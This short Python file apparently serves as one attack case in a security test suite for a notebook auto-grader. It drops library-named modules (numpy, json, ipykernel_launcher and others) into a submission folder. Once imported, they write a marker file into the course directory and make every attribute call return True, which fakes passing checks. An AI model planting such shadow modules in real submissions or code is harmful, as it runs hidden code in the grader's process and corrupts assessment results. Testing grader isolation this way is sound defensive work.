"""Hands in a numpy.py, keras.py, json.py, ipykernel_launcher.py and others with the names of libraries.

Would run code in whatever process imports from the submission's folder.

Plain nbgrader: changes files: it runs the attacker's code as soon as a kernel starts.
"""

NAMES = ("numpy", "keras", "tensorflow", "json", "ipykernel_launcher", "nbformat", "IPython", "random", "typing")
CODE = """
import os
try:
    open("@course@/owned", "w").write("x")
except OSError:
    pass
def __getattr__(name):
    if name.startswith("__"):
        raise AttributeError(name)
    return lambda *a, **k: True
"""


def attack(folder, places):
    for name in NAMES:
        (folder / f"{name}.py").write_text(CODE.replace("@course@", str(places["course"])))
